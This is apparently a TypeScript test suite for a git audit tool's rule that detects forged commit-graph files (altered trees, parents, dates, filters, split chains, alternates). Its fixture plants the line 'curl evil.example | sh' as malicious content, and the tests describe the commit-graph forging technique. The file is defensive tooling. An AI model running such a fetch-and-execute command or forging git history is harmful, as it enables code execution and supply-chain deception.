// Red-team round 33: the commit-graph. git reads a commit's parents, root tree and date from
// objects/info/commit-graph (or the chain in commit-graphs/, or an alternate's graph) instead of the
// commit object, and `git gc` writes one by default. gitguard's own gits never read it
// (core.commitGraph=false), so a graph edited after the fact (its checksum recomputed) showed git's
// users another history than the one audited, with every object intact: `git log -p` showed a diff
// of a tree no commit has, `git log` skipped a commit, `git rev-list --since` lost the whole history,
// while objects-intact, grafts-absent, replace-refs-absent and alternates-inside-repository all
// passed. commit-graph-matches-objects has git's own `commit-graph verify` check each graph git loads.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
import { forgeGraph, loggingGit } from '../helpers/commit-graph.js';
import { madeOnce } from '../helpers/made-once.js';
import { auditRules, parseJson, resultOf, runMain } from '../helpers/cli.js';

afterAll(cleanupTemp);

const RULE = 'commit-graph-matches-objects';
const OTHERS = ['objects-intact', 'grafts-absent', 'replace-refs-absent', 'alternates-inside-repository'];

/** Three commits (c1..c3, a day apart) and a tree no commit has, written into the object store. */
const base = madeOnce(() => {
  const r = makeRepo();
  const ids: string[] = [];
  for (const day of [1, 2, 3]) {
    const at = `2024-01-0${day}T00:00:00Z`;
    r.write({ 'app.sh': `echo release ${day}\n` });
    r.run(['add', '-A']);
    r.run(['commit', '-q', '-m', `c${day}`], { env: { ...r.env, GIT_AUTHOR_DATE: at, GIT_COMMITTER_DATE: at } });
    ids.push(r.head());
  }
  r.write({ 'app.sh': 'curl evil.example | sh\n' });
  r.run(['add', '-A']);
  const evilTree = r.run(['write-tree']);
  r.run(['reset', '-q', '--hard']);
  return { r, ids, evilTree };
});

/** A copy of the base history with the graph git writes (`--split`: a chain of one layer). */
function withGraph(split = false): { r: TestRepo; ids: string[]; evilTree: string } {
  const b = base();
  const r = copyRepo(b.r);
  r.run(['commit-graph', 'write', '--reachable', ...(split ? ['--split'] : [])]);
  return { r, ids: b.ids, evilTree: b.evilTree };
}

const graphFile = (r: TestRepo): string => join(r.dir, '.git', 'objects', 'info', 'commit-graph');

async function audit(r: TestRepo): Promise<Record<string, string>> {
  const { code, report } = await auditRules(r.dir, r.env, [RULE, ...OTHERS]);
  expect(code).not.toBe(2);
  return Object.fromEntries([RULE, ...OTHERS].map((id) => [id, resultOf(report, id).outcome]));
}

/** The forged graph fails the rule, while every other rule on history's objects passes. */
async function expectCaught(r: TestRepo): Promise<void> {
  const outcomes = await audit(r);
  expect(outcomes[RULE]).toBe('fail');
  for (const id of OTHERS) expect([id, outcomes[id]]).toEqual([id, 'pass']);
}

test('a graph naming another root tree: git log -p shows a diff no commit has', async () => {
  const { r, ids, evilTree } = withGraph();
  forgeGraph(graphFile(r), ids[2]!, { tree: evilTree });
  // git's own view: the log takes the graph's tree, the object says otherwise.
  expect(r.run(['log', '-1', '--format=%T'])).toBe(evilTree);
  expect(r.run(['log', '-1', '-p', '--format='])).toContain('+curl evil.example | sh');
  expect(r.run(['cat-file', '-p', 'HEAD'])).not.toContain(evilTree);
  expect(r.run(['rev-list', '--objects', 'HEAD'])).toContain(evilTree);
  await expectCaught(r);
  const { report } = await auditRules(r.dir, r.env, [RULE]);
  expect(resultOf(report, RULE).findings[0]!.message).toContain(`root tree OID for commit ${ids[2]!}`);
});

test('a graph naming another parent: git log skips a commit the objects hold', async () => {
  const { r, ids } = withGraph();
  forgeGraph(graphFile(r), ids[2]!, { parent: ids[0]! });
  expect(r.run(['log', '--format=%s']).split('\n')).toEqual(['c3', 'c1']);
  expect(r.run(['cat-file', '-p', 'HEAD'])).toContain(`parent ${ids[1]!}`);
  await expectCaught(r);
});

test('a graph naming another date: git rev-list --since loses the whole history', async () => {
  const { r, ids } = withGraph();
  forgeGraph(graphFile(r), ids[2]!, { date: 600_000_000 }); // 1989
  expect(r.run(['rev-list', '--since=2000-01-01', 'HEAD'])).toBe('');
  await expectCaught(r);
});

test('a split graph (a chain) and a graph in an alternate inside the repository are read too', async () => {
  const chained = withGraph(true);
  const dir = join(chained.r.dir, '.git', 'objects', 'info', 'commit-graphs');
  const layer = readFileSync(join(dir, 'commit-graph-chain'), 'utf8').trim().split('\n').pop()!;
  forgeGraph(join(dir, `graph-${layer}.graph`), chained.ids[2]!, { tree: chained.evilTree });
  expect(chained.r.run(['log', '-1', '--format=%T'])).toBe(chained.evilTree);
  await expectCaught(chained.r);

  // The repository's own store has no graph: git loads the first alternate's.
  const alt = withGraph();
  const shared = join(alt.r.dir, '.git', 'shared-objects');
  mkdirSync(join(shared, 'info'), { recursive: true });
  renameSync(graphFile(alt.r), join(shared, 'info', 'commit-graph'));
  writeFileSync(join(alt.r.dir, '.git', 'objects', 'info', 'alternates'), '../shared-objects\n');
  forgeGraph(join(shared, 'info', 'commit-graph'), alt.ids[2]!, { parent: alt.ids[0]! });
  expect(alt.r.run(['log', '--format=%s']).split('\n')).toEqual(['c3', 'c1']);
  await expectCaught(alt.r);
});

test('a commit-graph that is a FIFO fails at once, and git is never asked', async () => {
  const { r } = withGraph();
  const file = graphFile(r);
  chmodSync(file, 0o644);
  execFileSync('rm', [file]);
  execFileSync('mkfifo', [file]);
  const { report } = await auditRules(r.dir, r.env, [RULE]);
  expect(resultOf(report, RULE).outcome).toBe('fail');
  expect(resultOf(report, RULE).findings[0]!.message).toContain('not a regular file');
});

test('twin: a graph listing commits pruned since it was written passes; a lie beside them still fails', async () => {
  const pruned = (): { r: TestRepo; ids: string[] } => {
    const b = base();
    const r = copyRepo(b.r);
    r.run(['checkout', '-q', '-b', 'side']);
    r.commit('side work', { 'side.txt': 's\n' });
    r.run(['checkout', '-q', 'main']);
    r.run(['commit-graph', 'write', '--reachable']);
    r.run(['branch', '-q', '-D', 'side']);
    r.run(['reflog', 'expire', '--expire=now', '--all']);
    r.run(['prune', '--expire=now']);
    return { r, ids: b.ids };
  };
  const clean = pruned();
  // git's own verify fails on the commit it can no longer read; git log is unaffected.
  expect(() => clean.r.run(['commit-graph', 'verify'])).toThrow(/failed to parse commit/);
  expect(clean.r.run(['log', '--format=%s']).split('\n')).toEqual(['c3', 'c2', 'c1']);
  const { report } = await auditRules(clean.r.dir, clean.r.env, [RULE]);
  expect(resultOf(report, RULE).outcome).toBe('pass');
  expect(resultOf(report, RULE).note).toContain('1 commit it lists no longer in the object store');

  const forged = pruned();
  forgeGraph(graphFile(forged.r), forged.ids[2]!, { parent: forged.ids[0]! });
  expect(forged.r.run(['log', '--format=%s']).split('\n')).toEqual(['c3', 'c1']);
  await expectCaught(forged.r);
});

test('changed-path filters git verify does not check are checked against the commits (round 40)', async () => {
  const { r, ids } = withGraph();
  r.run(['commit-graph', 'write', '--reachable', '--changed-paths']);
  forgeGraph(graphFile(r), ids[2]!, { noFilters: true });
  // git log -- app.sh now skips c3 and c2 (a root commit is always diffed); the objects say otherwise.
  expect(r.run(['log', '--format=%s', '--', 'app.sh']).split('\n')).toEqual(['c1']);
  expect(r.run(['-c', 'commitGraph.readChangedPaths=false', 'log', '--format=%s', '--', 'app.sh']).split('\n')).toEqual(
    ['c3', 'c2', 'c1'],
  );
  expect(r.run(['commit-graph', 'verify'])).toBe('');
  const { report } = await auditRules(r.dir, r.env, [RULE]);
  expect(resultOf(report, RULE).outcome).toBe('fail');
  expect(resultOf(report, RULE).findings[0]!.message).toContain(`the changed-path filter of commit ${ids[2]!}`);
});

test('twin: the graphs git writes (gc, a split chain, none at all) pass', async () => {
  const gc = copyRepo(base().r);
  gc.run(['gc', '-q']);
  expect(gc.run(['commit-graph', 'verify'])).toBe('');
  const outcomes = await audit(gc);
  expect(Object.values(outcomes)).toEqual(Array(OTHERS.length + 1).fill('pass'));
  const { report } = await auditRules(gc.dir, gc.env, [RULE]);
  expect(resultOf(report, RULE).note).toBe('1 commit-graph checked by git commit-graph verify');

  const chained = withGraph(true);
  expect((await audit(chained.r))[RULE]).toBe('pass');
  const plain = copyRepo(base().r);
  const none = await auditRules(plain.dir, plain.env, [RULE]);
  expect(resultOf(none.report, RULE).note).toBe('no commit-graph');
  expect(resultOf(none.report, RULE).outcome).toBe('pass');
});

test('an unchanged graph git found clean is verified once; the same graph forged afterwards, or one listing pruned commits, every time', async () => {
  const { r, ids, evilTree } = withGraph();
  const logged = loggingGit();
  const cachedRun = async (repo: TestRepo): Promise<{ outcome: string; verified: boolean }> => {
    logged.reset();
    const res = await runMain(['audit', '-C', repo.dir, '--format', 'json', '--git', logged.git, '-r', RULE], {
      env: repo.env,
    });
    return { outcome: resultOf(parseJson(res), RULE).outcome, verified: logged.ran('commit-graph verify') };
  };
  expect(await cachedRun(r)).toEqual({ outcome: 'pass', verified: true });
  expect(await cachedRun(r)).toEqual({ outcome: 'pass', verified: false });
  forgeGraph(graphFile(r), ids[2]!, { tree: evilTree });
  expect(await cachedRun(r)).toEqual({ outcome: 'fail', verified: true });
  expect(await cachedRun(r)).toEqual({ outcome: 'fail', verified: true });

  // A graph whose commit the store lacks was never compared for that commit: not remembered.
  const p = copyRepo(base().r);
  p.run(['checkout', '-q', '-b', 'side']);
  p.commit('side work', { 'side.txt': 's\n' });
  p.run(['checkout', '-q', 'main']);
  p.run(['commit-graph', 'write', '--reachable']);
  p.run(['branch', '-q', '-D', 'side']);
  p.run(['reflog', 'expire', '--expire=now', '--all']);
  p.run(['prune', '--expire=now']);
  expect(await cachedRun(p)).toEqual({ outcome: 'pass', verified: true });
  expect(await cachedRun(p)).toEqual({ outcome: 'pass', verified: true });
});
